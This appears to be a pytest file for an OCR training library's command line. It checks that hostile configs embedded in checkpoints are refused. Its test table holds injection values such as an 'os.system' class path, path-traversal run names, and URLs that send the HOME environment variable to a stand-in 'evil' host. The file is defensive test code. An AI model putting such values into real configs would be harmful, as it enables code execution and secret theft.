"""What ``validate`` and its like take over from the config in a checkpoint, and what they refuse."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import torch

from ocrnet_pl.cli.main import main
from ocrnet_pl.errors import CheckpointError
from ocrnet_pl.storage.stored_config import stored_config
from tests.cli.test_checkpoint_option import STORED, TRUST, settled
from tests.helpers.tiny_run import fails


@pytest.fixture(scope="module")
def content(tiny: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The checkpoint of a run of one epoch."""
    root = tmp_path_factory.mktemp("runs")
    main(["fit", "--config", str(tiny), "--trainer.default_root_dir", str(root), "--trainer.max_epochs=1"])
    found: dict[str, Any] = torch.load(root / "tiny/version_0/checkpoints/last.ckpt", weights_only=True)
    return found


def change(content: dict[str, Any], key: str, value: Any) -> dict[str, Any]:
    """Return a checkpoint whose config has another value."""
    config = json.loads(json.dumps(content["config"]))
    *folders, name = key.split(".")
    at = config
    for folder in folders:
        at = at[folder]
    at[name] = value
    return content | {"config": config}


SYSTEM = {"class_path": "os.system", "init_args": {"command": "touch was_here"}}
HOSTILE: dict[str, tuple[str, Any, str]] = {
    "a neck": ("model.neck", SYSTEM, "is not a class of ocrnet_pl"),
    "a loss": ("model.detection_loss.init_args.box_loss", SYSTEM, "is not a class of ocrnet_pl"),
    "balancing": ("model.balancing", SYSTEM, "is not a class of ocrnet_pl"),
    "tiles": ("model.tile", SYSTEM, "is not a class of ocrnet_pl"),
    "a source": ("data.val", SYSTEM, "is not a class of ocrnet_pl"),
    "a source in a source": (
        "data.val",
        {"class_path": "Partial", "init_args": {"source": {"class_path": "evil.Source"}, "tasks": ["detection"]}},
        "is not a class of ocrnet_pl",
    ),
    "no source": ("data.val", {"class_path": "ocrnet_pl.models.necks.PathAggregationNeck"}, "is not of type Source"),
    "disagreements": ("disagreements.finder", SYSTEM, "is not a class of ocrnet_pl"),
    "pictures": ("pictures.count", SYSTEM, "is not a class of ocrnet_pl"),
    "text": ("model.neck", "os.system", "is not a class of ocrnet_pl"),
    "YAML": ("data.val", "{class_path: os.system}", "is not valid here"),
    "a folder": ("name", "../../elsewhere", "is not a valid name of a run"),
    "an absolute folder": ("name", "/tmp/elsewhere", "is not a valid name of a run"),
    "no name": ("name", ["x"], "is not a valid name of a run"),
    "a secret": (
        "data.val.init_args.root",
        "https://evil/${oc.env:HOME}",
        "that also names the address 'https://evil/",
    ),
    "a secret, hidden": ("data.val.init_args.root", "${oc.env:NONE,https:}//evil/${oc.env:HOME}", "names the address"),
    "a secret elsewhere": (
        "data.val.init_args",
        {"path": "${oc.env:HOME}", "root": "https://evil"},
        "data.val.init_args.path: '\\${oc.env:HOME}' is not taken",
    ),
    "a variable that is not set": ("data.val.init_args.root", "${oc.env:NONE}", "'NONE' is not set"),
    "a name of a variable": ("name", "${oc.env:NONE,../x}", "is not a valid name of a run"),
    "chained addresses": ("data.val.init_args.path", "filecache::https://evil/x", "is not taken from a checkpoint"),
    "an unknown option": ("model.evil", 1, "this version has no option 'evil'"),
    "an unknown option of a source": ("data.val.init_args.evil", 1, "has no option 'evil'"),
    "no model": ("model", 5, "there is no section 'model'"),
    "no data": ("data", None, "there is no section 'data'"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_config_in_a_checkpoint_does_nothing(
    case: str, content: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    key, value, line = HOSTILE[case]
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil.py").write_text("open('was_here', 'w')\n")
    monkeypatch.syspath_prepend(tmp_path)
    path = tmp_path / "made_up.ckpt"
    torch.save(change(content, key, value) | {"state_dict": {}, "current_model_state": {}}, path)
    with pytest.raises(CheckpointError, match=line) as refused:
        settled("validate", "--ckpt_path", str(path), *TRUST)
    assert "\n" not in str(refused.value)
    assert not (tmp_path / "was_here").exists()


def test_what_belongs_to_training_is_left_out(content: dict[str, Any]) -> None:
    """Not even looked at: foreign classes there need no trust."""
    changed = content
    for key, value in {
        "trainer.callbacks": [SYSTEM],
        "trainer.logger": SYSTEM,
        "trainer.plugins": [SYSTEM],
        "trainer.strategy": SYSTEM,
        "trainer.profiler": SYSTEM,
        "trainer.devices": 8,
        "trainer.precision": "bf16-mixed",
        "trainer.default_root_dir": "/elsewhere",
        "model.optimizer": SYSTEM,
        "model.compile_backend": "inductor",
        "data.train": SYSTEM,
        "data.train_transforms": [SYSTEM],
        "data.predict_path": "/elsewhere",
        "data.cache": {"folder": "/elsewhere"},
        "early_stopping": SYSTEM,
        "checkpoint": SYSTEM,
    }.items():
        changed = change(changed, key, value)
    config, missed = stored_config(changed, "validate", STORED, (), ["tests"], "here")
    assert missed == []
    assert config["trainer"] == {"precision": "bf16-mixed"}
    assert config["seed_everything"] == 0
    assert set(config) == {"name", "seed_everything", "trainer", *STORED}
    assert "train" not in config["data"] and "optimizer" not in config["model"]
    assert config["data"]["val"] == content["config"]["data"]["val"]
    for command in ("predict", "film"):
        assert "val" not in stored_config(changed, command, STORED, (), ["tests"], "here")[0]["data"]
    # What the command line replaces is not looked at either.
    hostile = change(content, "model.encoder", SYSTEM)
    assert "encoder" not in stored_config(hostile, "validate", STORED, ["model.encoder"], [], "here")[0]["model"]
    with pytest.raises(CheckpointError, match="it contains no config; give the one"):
        stored_config({}, "validate", STORED, (), (), "here")


def test_folders_and_rights_of_a_source_are_given_here(content: dict[str, Any], tmp_path: Path) -> None:
    packed = {
        "class_path": "ocrnet_pl.data.shards.source.Packed",
        "init_args": {"path": "val", "root": "/then", "cache": "/elsewhere", "storage_options": {"key": "x"}},
    }
    changed = change(change(content, "data.val", packed), "data.root", "/then")
    packed["init_args"]["path"] = "${oc.env:HOME}/val"
    config, missed = stored_config(change(changed, "data.val", packed), "validate", STORED, (), ["tests"], "here")
    assert config["data"]["val"]["init_args"] == {"path": "${oc.env:HOME}/val", "root": "."}
    assert config["data"]["root"] == "/then"
    assert missed == ["data.val.init_args.cache", "data.val.init_args.storage_options"]


def test_an_old_folder_of_the_data_takes_one_line(
    content: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = {
        "class_path": "ocrnet_pl.data.sources.coco.CocoInstances",
        "init_args": {"annotations": "val.json", "images": "images", "root": "/then"},
    }
    path = tmp_path / "old.ckpt"
    torch.save(change(change(content, "data.val", source), "data.root", "/then"), path)
    status, said = fails(capsys, "validate", "--ckpt_path", str(path), *TRUST, "--data.root=/now")
    assert status == 1
    error = [line for line in said.splitlines() if line.startswith("error:")]
    assert len(error) == 1 and "/now/val.json" in error[0]
    assert "Traceback" not in said
    # Without another folder it is the old one.
    _, config = settled("validate", "--ckpt_path", str(path), *TRUST)
    assert config is not None and config["data"]["root"] == "/then"
